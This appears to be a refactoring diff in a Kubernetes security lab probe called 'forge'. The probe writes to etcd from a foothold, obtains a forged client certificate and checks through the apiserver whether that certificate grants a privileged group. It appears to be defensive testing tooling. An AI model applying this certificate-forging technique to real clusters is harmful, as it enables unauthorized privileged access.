@@ -89,9 +89,9 @@ def forge(
     ProbeTimeout
         An answer, or the certificate, did not come in time.
     """
-    it = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
+    case = _Case(lab, foothold, f"/tmp/labkit-{secrets.token_hex(4)}")  # noqa: S108 - the attacker's
     evidence = [f"wrote to etcd, {how}: {KEY}"]
-    argv = agents.argv("make_key", it.folder, USER, GROUP)
+    argv = agents.argv("make_key", case.folder, USER, GROUP)
     try:
         made = run_from(lab, foothold, argv)
         if made.exit_code:
@@ -101,12 +101,12 @@ def forge(
             tried = (f"tried to write to etcd, {how}: {KEY}",)
             control = _control(lab)
             return Verdict(technique, lab.mode, foothold, False, answer.refusal, tried, control)
-        run_from(lab, foothold, ["tee", f"{it.folder}/crt"], stdin=_certificate(store))
-        before, after = _who(it, with_it=False), _who(it, with_it=True)
+        run_from(lab, foothold, ["tee", f"{case.folder}/crt"], stdin=_certificate(store))
+        before, after = _user_info(case, with_it=False), _user_info(case, with_it=True)
     finally:
         store.delete(KEY)
         # With its key, the certificate is gone for good.
-        run_from(lab, foothold, ["rm", "-rf", it.folder])
+        run_from(lab, foothold, ["rm", "-rf", case.folder])
     if GROUP not in after.get("groups", ()):
         raise ProbeError(f"the apiserver takes the forged certificate for {after}")
     evidence += [
@@ -158,14 +158,14 @@ def _certificate(store: Store) -> bytes:
     raise ProbeTimeout(f"nobody signed the forged request within {PATIENCE:g} s")
 
 
-def _who(it: _Case, *, with_it: bool) -> dict[str, Any]:
+def _user_info(case: _Case, *, with_it: bool) -> dict[str, Any]:
     """Ask the apiserver's TLS port who one is to it, with the certificate or without."""
-    secure = _secure(it.lab)
+    secure = _tls_channel(case.lab)
     url = f"https://{secure.server.split('@')[1]}:{secure.port}"
-    options = ["--cert", f"{it.folder}/crt", "--key", f"{it.folder}/key"] if with_it else []
+    options = ["--cert", f"{case.folder}/crt", "--key", f"{case.folder}/key"] if with_it else []
     path = "/apis/authentication.k8s.io/v1/selfsubjectreviews"
     body = json.dumps(REVIEW).encode()
-    said = request(it.lab, url + path, foothold=it.foothold, body=body, options=options)
+    said = request(case.lab, url + path, foothold=case.foothold, body=body, options=options)
     if said.refusal and not with_it:
         return {}
     try:
@@ -175,7 +175,7 @@ def _who(it: _Case, *, with_it: bool) -> dict[str, Any]:
     return found
 
 
-def _secure(lab: Lab) -> Channel:
+def _tls_channel(lab: Lab) -> Channel:
     found = read_model(lab.environment).channels
     return next(
         c for c in found if c.server.startswith("kube-apiserver@") and c.protocol == "https"
